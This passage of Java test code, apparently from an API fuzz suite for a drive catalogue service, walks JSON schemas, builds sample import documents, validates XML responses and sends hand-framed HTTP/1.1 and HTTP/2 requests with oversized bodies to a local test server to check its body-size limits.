                    numericMembers(schemas, ps, value.get(property.getKey()), at, found);
                }
            }
            JsonNode additional = s.path("additionalProperties");
            if (additional.isObject()) {
                value.fields().forEachRemaining(e -> numericMembers(schemas, additional, e.getValue(), pointer + "/" + e.getKey(), found));
            }
        } else if (value.isArray()) {
            for (int i = 0; i < value.size(); i++) {
                numericMembers(schemas, s.path("items"), value.get(i), pointer + "/" + i, found);
            }
        }
    }

    /** The JSON pointers of the text members of a body of this schema that the body gives. */
    static void textMembers(JsonNode schemas, JsonNode schema, JsonNode value, String pointer, List<String> found) {
        JsonNode s = resolve(schemas, schema);
        if (value.isTextual() && (types(s).contains("string") || isNumeric(schemas, s))) {
            found.add(pointer);
        } else if (value.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = value.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> member = it.next();
                JsonNode ps = s.path("properties").path(member.getKey());
                if (ps.isMissingNode()) {
                    ps = s.path("additionalProperties");
                }
                textMembers(schemas, ps, member.getValue(), pointer + "/" + member.getKey(), found);
            }
        } else if (value.isArray()) {
            for (int i = 0; i < value.size(); i++) {
                textMembers(schemas, s.path("items"), value.get(i), pointer + "/" + i, found);
            }
        }
    }

    private static JsonNode resolve(JsonNode schemas, JsonNode schema) {
        JsonNode s = schema;
        while (s.has("$ref")) {
            s = schemas.path(s.get("$ref").asText().replace("#/components/schemas/", ""));
        }
        return s;
    }

    private static boolean isNumeric(JsonNode schemas, JsonNode schema) {
        JsonNode s = resolve(schemas, schema);
        if (types(s).contains("number") || types(s).contains("integer")) {
            return true;
        }
        for (String combined : List.of("anyOf", "oneOf")) {
            for (JsonNode member : s.path(combined)) {
                if (isNumeric(schemas, member)) {
                    return true;
                }
            }
        }
        return false;
    }

    private static List<String> types(JsonNode schema) {
        JsonNode type = schema.path("type");
        List<String> types = new ArrayList<>();
        if (type.isTextual()) {
            types.add(type.asText());
        }
        type.forEach(t -> types.add(t.asText()));
        return types;
    }

    /** A copy of the document with the member at the pointer set (added when absent). */
    static JsonNode with(JsonNode document, String pointer, JsonNode value) {
        JsonNode copy = document.deepCopy();
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = copy.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode object) {
            object.set(last, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        }
        return copy;
    }

    static String slug(String key) {
        return "hostile-" + key + "-100gb";
    }

    static String externalId(String key) {
        return "B0H" + key.replaceAll("[^A-Za-z0-9]", "").toUpperCase(Locale.ROOT);
    }

    /** An import document of one drive with a spec value, one listing and a price drop in 2026-W47, every text member given. */
    static String importDocument(String key) {
        return """
                {"format": "drivecat-import/1",
                 "sources": {"s": {"url": "https://example.org/hostile-report", "title": "A report", "kind": "REVIEW", "retrievedAt": "2026-11-20"}},
                 "drives": [{"slug": "%1$s", "vendor": "Hostile", "model": "Text %2$s", "capacityGb": 100, "interface": "nvme",
                             "formFactor": "u2", "pcieGen": 3, "pcieLanes": 4, "partNumbers": ["HT%3$s"],
                             "specs": [{"field": "dwpd", "value": 3, "unit": null, "appliesTo": "the 100 GB model",
                                        "wording": "3 drive writes per day", "source": "s"}]}],
                 "listings": [{"marketplace": "amazon-us", "externalId": "%3$s", "drive": "%1$s", "sellerName": "A seller",
                               "sellerType": "THIRD_PARTY", "condition": "NEW",
                               "observations": [
                                 {"observedAt": "2026-11-17T00:00:00Z", "price": 500.00, "priceHigh": 520.00, "currency": "USD", "shipping": 5.00,
                                  "memberPrice": 490.00, "inStock": true, "availability": "In stock", "wording": "$500", "source": "s"},
                                 {"observedAt": "2026-11-19T00:00:00Z", "price": 400.00, "currency": "USD", "inStock": true,
                                  "availability": "In stock", "wording": "$400", "source": "s"}]}]}
                """.formatted(slug(key), key, externalId(key));
    }

    /** A 200 whose body parses as XML, holds at least one {@code element} (the feed's entry, the chart's svg) and nothing XML forbids. */
    private static void assertXml(Response response, String what, String element) throws Exception {
        ApiFuzzTest.checkAnswer(what, 0, response);
        assertThat(response.statusCode()).as("%s: %s", what, response.asString()).isEqualTo(200);
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        org.w3c.dom.Document document = factory.newDocumentBuilder().parse(new ByteArrayInputStream(response.asByteArray())); // throws on what XML 1.0 forbids
        assertThat(document.getElementsByTagNameNS("*", element).getLength()).as("%s elements in %s", element, what).isPositive();
        assertThat(Text.firstNotXml(response.asString())).as("the first character XML forbids in %s", what).isEqualTo(-1);
    }

    private static void sql(String statement, String value, String key) throws SQLException {
        try (Connection c = Sql.quarkusDatasource().connect(); PreparedStatement s = c.prepareStatement(statement)) {
            // NUL cannot be stored in PostgreSQL text at all: the rest of the value is what a page could leave
            s.setString(1, value.replace("\u0000", ""));
            s.setString(2, key);
            assertThat(s.executeUpdate()).as(statement).isEqualTo(1);
        }
    }

    /** A status line, headers and body, read off a socket. */
    record RawAnswer(int status, String head, byte[] body) {
        /** The value of the header (its name in any case); null when it is not there. */
        String header(String name) {
            for (String line : head.split("\r\n")) {
                int colon = line.indexOf(':');
                if (colon > 0 && line.substring(0, colon).trim().equalsIgnoreCase(name)) {
                    return line.substring(colon + 1).trim();
                }
            }
            return null;
        }
    }

    /**
     * Sends the operation's request by hand, with {@code framing} (a Content-Length or
     * Transfer-Encoding header); with {@code streamed} text, streams it and then 1 MiB of one
     * letter in chunks (stopping as soon as an answer comes), else sends no body at all.
     */
    private static RawAnswer raw(Operation op, String framing, String streamed) throws IOException {
        Attempt attempt = attempt(op, baselines(op).get(0), null, null, "body past its limit");
        String target = ApiFuzzTest.target(op, attempt);
        String type = op.bodyTypes().isEmpty() ? "application/octet-stream" : op.bodyTypes().get(0);
        String head = op.method().toUpperCase(Locale.ROOT) + " " + target + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + type + "\r\n"
                + (op.admin() ? "Authorization: Bearer " + TOKEN + "\r\n" : "") + (op.accept() == null ? "" : "Accept: " + op.accept() + "\r\n")
                + framing + "\r\n";
        try (Socket socket = new Socket("localhost", RestAssured.port)) {
            socket.setSoTimeout(ApiFuzzTest.ANSWER_TIMEOUT_MILLIS);
            OutputStream out = socket.getOutputStream();
            InputStream in = socket.getInputStream();
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            out.flush();
            if (streamed != null) {
                chunk(out, streamed.getBytes(StandardCharsets.UTF_8));
                byte[] letters = "a".repeat(8192).getBytes(StandardCharsets.US_ASCII);
                try {
                    for (int sent = 0; sent < 1024 * 1024 && in.available() == 0; sent += letters.length) {
                        chunk(out, letters);
                    }
                    out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                    out.flush();
                } catch (IOException closedByTheServer) {
                    // the server answered and closed while the body was still coming: what is read below says how
                }
            }
            return read(in);
        }
    }

    /**
     * Sends the operation's request over HTTP/2 on the plain port, by prior knowledge (h2c, as
     * {@code curl --http2-prior-knowledge} does): {@code start} and then letters up to {@code bytes},
     * in DATA frames, with neither Content-Length nor Transfer-Encoding.
     */
    private RawAnswer http2(Operation op, String start, long bytes) throws Exception {
        Attempt attempt = attempt(op, baselines(op).get(0), null, null, "body past its limit over HTTP/2");
        io.vertx.core.http.HttpClient client = vertx.createHttpClient(new io.vertx.core.http.HttpClientOptions()
                .setProtocolVersion(io.vertx.core.http.HttpVersion.HTTP_2).setHttp2ClearTextUpgrade(false));
        try {
            io.vertx.core.http.RequestOptions options = new io.vertx.core.http.RequestOptions()
                    .setMethod(io.vertx.core.http.HttpMethod.valueOf(op.method().toUpperCase(Locale.ROOT)))
                    .setHost("localhost").setPort(RestAssured.port).setURI(ApiFuzzTest.target(op, attempt))
                    .putHeader("Content-Type", op.bodyTypes().get(0));
            if (op.admin()) {
                options.putHeader("Authorization", "Bearer " + TOKEN);
            }
            if (op.accept() != null) {
                options.putHeader("Accept", op.accept());
            }
            java.util.concurrent.CompletableFuture<RawAnswer> answer = new java.util.concurrent.CompletableFuture<>();
            client.request(options).onFailure(answer::completeExceptionally).onSuccess(request -> {
                request.response().compose(response -> response.body().map(body -> {
                    StringBuilder head = new StringBuilder("HTTP/2 " + response.statusCode());
                    response.headers().forEach(h -> head.append("\r\n").append(h.getKey()).append(": ").append(h.getValue()));
                    return new RawAnswer(response.statusCode(), head.toString(), body.getBytes());
                })).onComplete(done -> {
                    if (done.succeeded()) {
                        answer.complete(done.result());
                    } else {
                        answer.completeExceptionally(done.cause());
                    }
                });
                try {
                    // Vert.x asks for a length or chunking before writing; over HTTP/2 the flag sends no header, the body is DATA frames
                    request.setChunked(true);
                    request.write(start);
                    io.vertx.core.buffer.Buffer letters = io.vertx.core.buffer.Buffer.buffer("a".repeat(8192));
                    for (long sent = start.length(); sent < bytes; sent += letters.length()) {
                        request.write(letters);
                    }
                    request.end();
                } catch (RuntimeException e) {
                    answer.completeExceptionally(e);
                }
            });
            return answer.get(ApiFuzzTest.ANSWER_TIMEOUT_MILLIS, java.util.concurrent.TimeUnit.MILLISECONDS);
        } finally {
            client.close();
        }
    }

    private static void chunk(OutputStream out, byte[] data) throws IOException {
        out.write((Integer.toHexString(data.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
        out.write(data);
        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
        out.flush();
    }

    private static RawAnswer read(InputStream in) throws IOException {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        int headEnd = -1;
        long length = -1;
        byte[] buffer = new byte[8192];
        int n;
        while ((n = in.read(buffer)) != -1) {
            bytes.write(buffer, 0, n);
            String so = bytes.toString(StandardCharsets.ISO_8859_1);
            if (headEnd < 0 && (headEnd = so.indexOf("\r\n\r\n")) >= 0) {
                Matcher m = Pattern.compile("(?im)^content-length:\\s*(\\d+)").matcher(so.substring(0, headEnd));
                length = m.find() ? Long.parseLong(m.group(1)) : -1;
            }
            if (headEnd >= 0 && length >= 0 && bytes.size() >= headEnd + 4 + length) {
                break;
            }
        }
        String all = bytes.toString(StandardCharsets.ISO_8859_1);
        assertThat(headEnd).as("an HTTP answer: %s", Text.quote(all)).isPositive();
        String head = all.substring(0, headEnd);
        byte[] body = java.util.Arrays.copyOfRange(bytes.toByteArray(), headEnd + 4, bytes.size());
        return new RawAnswer(Integer.parseInt(head.split(" ")[1]), head, body);
    }
}
